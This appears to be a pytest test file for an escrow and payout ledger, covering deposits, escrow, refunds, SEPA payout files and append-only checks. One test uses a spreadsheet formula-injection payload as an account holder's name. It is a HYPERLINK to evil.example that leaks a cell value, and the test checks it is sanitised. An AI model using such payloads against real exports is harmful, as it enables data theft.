"""Deposits, escrow, release on approval, refunds, payouts; the ledger's invariants and its guard."""

from __future__ import annotations

import subprocess
import sys
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import text
from sqlalchemy.exc import DatabaseError
from sqlmodel import select, update

from fieldcheck.assignments.models import Assignment
from fieldcheck.auth.models import Role
from fieldcheck.ledger.models import LedgerEntry, LedgerTransaction, Movement, Payout
from fieldcheck.ledger.providers import DEMO_DEBTOR, PayoutOrder, PayoutResult
from fieldcheck.money import verify_money
from fieldcheck.settings import Settings
from tests.support import sepa
from tests.support.factories import deposit, make_account, make_campaign, make_store, problem, runtime_of
from tests.support.sepa import schema_errors
from tests.support.submissions import Field, checked, submit, upload

IBAN = "FR7630006000011234567890189"


def ledger_ok(client: Any) -> None:
    runtime = runtime_of(client)
    with runtime.db.transaction(read_only=True) as session:
        report = verify_money(session)
    assert report.ok, report.problems


def balance(client: Any, account: Any) -> dict[str, Any]:
    answer = client.get("/api/v1/organizations/me/balance", headers=account.headers)
    assert answer.status_code == 200, answer.text
    return {b["currency"]: b for b in answer.json()["balances"]}


def worker_balance(client: Any, worker: Any) -> dict[str, Any]:
    answer = client.get("/api/v1/me/balance", headers=worker.headers)
    assert answer.status_code == 200, answer.text
    return {b["currency"]: b for b in answer.json()["balances"]}.get(
        "EUR", {"earned_cents": 0, "paid_out_cents": 0, "in_transit_cents": 0, "available_cents": 0}
    )


def test_deposits_are_idempotent(app_client: Any) -> None:
    client = make_account(runtime_of(app_client), Role.client)
    first = deposit(app_client, client, 12_345, key="dep-1")
    assert first["deposit"]["status"] == "settled"
    assert first["balance"]["balances"] == [{"currency": "EUR", "available_cents": 12_345, "escrow_cents": 0}]
    again = deposit(app_client, client, 12_345, key="dep-1")
    assert again == first
    headers = {**client.headers, "Idempotency-Key": "dep-1"}
    other = app_client.post(
        "/api/v1/organizations/me/deposits", json={"amount_cents": 1, "currency": "EUR"}, headers=headers
    )
    problem(other, 409, "idempotency_key_reused")
    problem(
        app_client.post(
            "/api/v1/organizations/me/deposits",
            json={"amount_cents": 5, "currency": "EUR"},
            headers=client.headers,
        ),
        400,
        "idempotency_key_required",
    )
    problem(
        app_client.post(
            "/api/v1/organizations/me/deposits",
            json={"amount_cents": 5, "currency": "JPY"},
            headers={**client.headers, "Idempotency-Key": "dep-2"},
        ),
        422,
        "unsupported_currency",
    )
    problem(
        app_client.post(
            "/api/v1/organizations/me/deposits",
            json={"amount_cents": 0, "currency": "EUR"},
            headers={**client.headers, "Idempotency-Key": "dep-3"},
        ),
        400,
        "validation_error",
    )
    assert balance(app_client, client)["EUR"]["available_cents"] == 12_345
    ledger_ok(app_client)


def test_activation_holds_escrow_or_says_what_is_missing(app_client: Any, settings: Settings) -> None:
    client = make_account(runtime_of(app_client), Role.client)
    stores = [make_store(app_client, client)["id"] for _ in range(3)]
    campaign = make_campaign(app_client, client, stores, activate=False, reward_cents=400, slots_per_store=2)
    # 3 stores x 2 slots x (4.00 + 0.40 fee) = 26.40
    deposit(app_client, client, 2_000)
    body = problem(
        app_client.post(f"/api/v1/campaigns/{campaign['id']}/activate", headers=client.headers),
        409,
        "insufficient_funds",
    )
    assert body["required_cents"] == 2_640
    assert body["available_cents"] == 2_000
    assert (
        app_client.get(f"/api/v1/campaigns/{campaign['id']}", headers=client.headers).json()["status"]
        == "draft"
    )
    deposit(app_client, client, 1_000)
    assert (
        app_client.post(f"/api/v1/campaigns/{campaign['id']}/activate", headers=client.headers).status_code
        == 200
    )
    assert balance(app_client, client)["EUR"] == {
        "currency": "EUR",
        "available_cents": 360,
        "escrow_cents": 2_640,
    }
    # Pausing and reactivating does not hold escrow twice.
    app_client.post(f"/api/v1/campaigns/{campaign['id']}/pause", headers=client.headers)
    app_client.post(f"/api/v1/campaigns/{campaign['id']}/activate", headers=client.headers)
    assert balance(app_client, client)["EUR"]["escrow_cents"] == 2_640
    ledger_ok(app_client)


def test_approval_pays_once_and_closing_returns_the_rest(app_client: Any) -> None:
    field = Field(app_client, stores=2, slots_per_store=2, reward_cents=500)
    owner = field.owner
    held = balance(app_client, owner)["EUR"]["escrow_cents"]
    assert held == 4 * 550
    worker = field.worker()
    assignment_id = field.reserve(worker)
    photo = upload(app_client, worker, assignment_id, _shelf(201))
    assert submit(app_client, worker, assignment_id, [photo]).status_code == 202
    assert checked(app_client, worker, assignment_id)["payment"]["status"] == "released"
    assert worker_balance(app_client, worker) == {
        "currency": "EUR",
        "earned_cents": 500,
        "paid_out_cents": 0,
        "in_transit_cents": 0,
        "available_cents": 500,
    }
    assert balance(app_client, owner)["EUR"]["escrow_cents"] == 3 * 550
    # Paying again for the same assignment is impossible, whoever tries.
    runtime = runtime_of(app_client)
    from fieldcheck.assignments.transitions import reference
    from fieldcheck.campaigns.models import Campaign
    from fieldcheck.ledger import service as ledger

    with runtime.db.transaction() as session:
        assignment = session.get(Assignment, uuid.UUID(assignment_id))
        campaign = session.get(Campaign, uuid.UUID(field.campaign["id"]))
        assert assignment is not None and campaign is not None
        again = ledger.release_from_escrow(
            session,
            reference=reference(assignment.id),
            escrow_id=campaign.id,
            worker_id=assignment.worker_id,
            currency=campaign.currency,
            reward=campaign.reward_cents,
            fee=campaign.fee_per_slot_cents,
            memo="again",
        )
        assert again is False
    assert worker_balance(app_client, worker)["earned_cents"] == 500

    # A reservation is in flight when the campaign closes: its share stays until it ends.
    late = field.worker()
    pending = field.reserve(late, task=1)
    closed = app_client.post(f"/api/v1/campaigns/{field.campaign['id']}/close", headers=owner.headers)
    assert closed.status_code == 200
    assert balance(app_client, owner)["EUR"]["escrow_cents"] == 550
    ledger_ok(app_client)
    assert app_client.delete(f"/api/v1/assignments/{pending}", headers=late.headers).status_code == 200
    assert balance(app_client, owner)["EUR"]["escrow_cents"] == 0
    available = balance(app_client, owner)["EUR"]["available_cents"]
    assert available == 5_000_000 - 550
    ledger_ok(app_client)


def _shelf(seed: int) -> bytes:
    from tests.support import photos

    return photos.jpeg(photos.scene(seed=seed))


def _earn(client: Any, reward: int = 2_500) -> Any:
    field = Field(client, reward_cents=reward, estimated_minutes=60)
    worker = field.worker()
    assignment_id = field.reserve(worker)
    photo = upload(client, worker, assignment_id, _shelf(reward % 1000 + 300))
    assert submit(client, worker, assignment_id, [photo]).status_code == 202
    assert checked(client, worker, assignment_id)["status"] == "approved"
    return worker


def _payout(client: Any, worker: Any, amount: int, key: str) -> Any:
    return client.post(
        "/api/v1/me/payouts",
        json={"amount_cents": amount, "currency": "EUR"},
        headers={**worker.headers, "Idempotency-Key": key},
    )


FORMULA_HOLDER = '=HYPERLINK("http://evil.example/?leak="&A1,"Ana Worker")'


def test_payouts_from_request_to_bank_file(app_client: Any) -> None:
    worker = _earn(app_client)
    problem(_payout(app_client, worker, 1_500, "p0"), 409, "payout_details_missing")
    bad = app_client.put(
        "/api/v1/me/payout-details",
        json={"account_holder": "Ana Worker", "iban": "FR7630006000011234567890188"},
        headers=worker.headers,
    )
    problem(bad, 422, "invalid_iban")
    # The holder's name is the worker's own text: it must reach the bank file as plain text.
    good = app_client.put(
        "/api/v1/me/payout-details",
        json={"account_holder": FORMULA_HOLDER, "iban": IBAN},
        headers=worker.headers,
    )
    assert good.status_code == 200
    assert good.json()["iban_last4"] == "0189"
    problem(_payout(app_client, worker, 500, "p1"), 422, "payout_below_minimum")
    problem(_payout(app_client, worker, 2_600, "p2"), 409, "insufficient_balance")
    runtime = runtime_of(app_client)
    runtime.jobs.db.after_commit_hooks.remove(runtime.jobs._after_commit)  # look at it before the job runs
    runtime.jobs.stop_loops()
    try:
        asked = _payout(app_client, worker, 2_000, "p3")
        assert asked.status_code == 201, asked.text
        assert asked.json()["status"] == "requested"
        assert _payout(app_client, worker, 2_000, "p3").json() == asked.json()  # a retry
        assert worker_balance(app_client, worker)["in_transit_cents"] == 2_000
        assert worker_balance(app_client, worker)["available_cents"] == 500
        problem(_payout(app_client, worker, 1_000, "p4"), 409, "insufficient_balance")
        ledger_ok(app_client)
    finally:
        runtime.jobs.db.after_commit_hooks.append(runtime.jobs._after_commit)
        runtime.jobs.start_loops(relay=True, scheduler=False)
    runtime.jobs.join()
    sent = app_client.get("/api/v1/me/payouts", headers=worker.headers).json()["items"][0]
    assert sent["status"] == "sent"
    assert worker_balance(app_client, worker) == {
        "currency": "EUR",
        "earned_cents": 2_500,
        "paid_out_cents": 2_000,
        "in_transit_cents": 0,
        "available_cents": 500,
    }
    with runtime.db.transaction(read_only=True) as session:
        payout = session.exec(select(Payout)).one()
    assert payout.batch_key and payout.batch_key.endswith(".xml")
    document = runtime.storage.get_bytes(payout.batch_key)
    # The embedded default writes pain.001.001.09 from the demo debtor, and the file is valid.
    assert schema_errors(document, "pain.001.001.09") == []
    written = sepa.read(document)
    assert (written.debtor_name, written.debtor_iban) == (DEMO_DEBTOR.name, DEMO_DEBTOR.iban)
    assert written.transactions == [
        sepa.Transaction(
            end_to_end_id=payout.id.hex,
            # The holder's name is the worker's text: only the SEPA character set reaches the bank.
            creditor_name="HYPERLINK( http://evil.example/?leak A1, Ana Worker )",
            creditor_iban=IBAN,
            amount_cents=2_000,
            currency="EUR",
            remittance=f"fieldcheck payout {payout.id.hex[:8]}",
        )
    ]
    assert (written.count, written.control_sum_cents) == (1, 2_000)
    ledger_ok(app_client)


class RefusingBank:
    name = "refusing"

    def send(self, orders: list[PayoutOrder], *, batch_key: str) -> list[PayoutResult]:
        return [
            PayoutResult(o.payout_id, sent=False, batch_key=None, failure="account closed") for o in orders
        ]


def test_a_failed_payout_gives_the_money_back(app_client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    worker = _earn(app_client)
    app_client.put(
        "/api/v1/me/payout-details", json={"account_holder": "Bo", "iban": IBAN}, headers=worker.headers
    )
    runtime = runtime_of(app_client)
    monkeypatch.setattr(
        runtime, "payout_provider", RefusingBank()
    )  # the instance: a cached provider would win
    assert _payout(app_client, worker, 1_000, "f1").status_code == 201
    runtime.jobs.join()
    payout = app_client.get("/api/v1/me/payouts", headers=worker.headers).json()["items"][0]
    assert payout["status"] == "failed"
    assert payout["failure"] == "account closed"
    assert worker_balance(app_client, worker)["available_cents"] == 2_500
    ledger_ok(app_client)


def test_the_ledger_cannot_be_edited(app_client: Any) -> None:
    _earn(app_client)
    runtime = runtime_of(app_client)
    for statement in (
        "UPDATE ledger_entries SET amount = amount + 1",
        "DELETE FROM ledger_transactions",
        "UPDATE ledger_transactions SET memo = 'edited'",
    ):
        with pytest.raises(DatabaseError, match="append-only"), runtime.db.transaction() as session:
            session.exec(text(statement))  # type: ignore[call-overload]
    ledger_ok(app_client)


@pytest.mark.corrupts_ledger
def test_verify_command_reports_and_fails(app_client: Any, settings: Settings) -> None:
    _earn(app_client)
    env = _cli_env(settings)
    good = subprocess.run(
        [sys.executable, "-m", "fieldcheck.cli", "ledger", "verify"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert good.returncode == 0, good.stdout + good.stderr
    assert "ledger OK" in good.stdout
    runtime = runtime_of(app_client)
    with runtime.db.transaction() as session:  # an entry without its counterpart: appended, not edited
        some = session.exec(select(LedgerEntry)).first()
        assert some is not None
        session.add(LedgerEntry(transaction_id=some.transaction_id, account_id=some.account_id, amount=7))
    bad = subprocess.run(
        [sys.executable, "-m", "fieldcheck.cli", "ledger", "verify"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert bad.returncode == 1
    assert "does not balance" in bad.stdout


def _cli_env(settings: Settings) -> dict[str, str]:
    import os

    env = {k: v for k, v in os.environ.items() if not k.startswith("FIELDCHECK_")}
    env.update(
        {"FIELDCHECK_HOME": str(settings.home), "FIELDCHECK_DATABASE_URL": settings.effective_database_url}
    )
    return env


def test_escrow_for_a_rejected_slot_waits_for_the_appeal_window(app_client: Any) -> None:
    field = Field(app_client, slots_per_store=1)
    worker = field.worker()
    assignment_id = field.reserve(worker)
    photo = upload(app_client, worker, assignment_id, _shelf(401))
    assert submit(app_client, worker, assignment_id, [photo], is_mock=True).status_code == 202
    assert checked(app_client, worker, assignment_id)["status"] == "rejected"
    app_client.post(f"/api/v1/campaigns/{field.campaign['id']}/close", headers=field.owner.headers)
    assert balance(app_client, field.owner)["EUR"]["escrow_cents"] == 550  # the worker may still appeal
    ledger_ok(app_client)
    runtime = runtime_of(app_client)
    with runtime.db.transaction() as session:
        session.exec(
            update(Assignment)
            .where(Assignment.id == uuid.UUID(assignment_id))  # type: ignore[arg-type]
            .values(decided_at=datetime.now(UTC) - timedelta(days=15))
        )
        from fieldcheck.reviews.service import finalize_rejections

        finalize_rejections(session, runtime.settings)
    assert balance(app_client, field.owner)["EUR"]["escrow_cents"] == 0
    ledger_ok(app_client)
    problem(
        app_client.post(
            f"/api/v1/assignments/{assignment_id}/appeal", json={"message": "please"}, headers=worker.headers
        ),
        409,
        "appeal_window_closed",
    )


def test_transactions_are_unique_per_movement(app_client: Any) -> None:
    _earn(app_client)
    with runtime_of(app_client).db.transaction(read_only=True) as session:
        releases = session.exec(
            select(LedgerTransaction).where(LedgerTransaction.movement == Movement.release.value)
        ).all()
    assert len(releases) == 1
    assert releases[0].reference.startswith("assignment:")
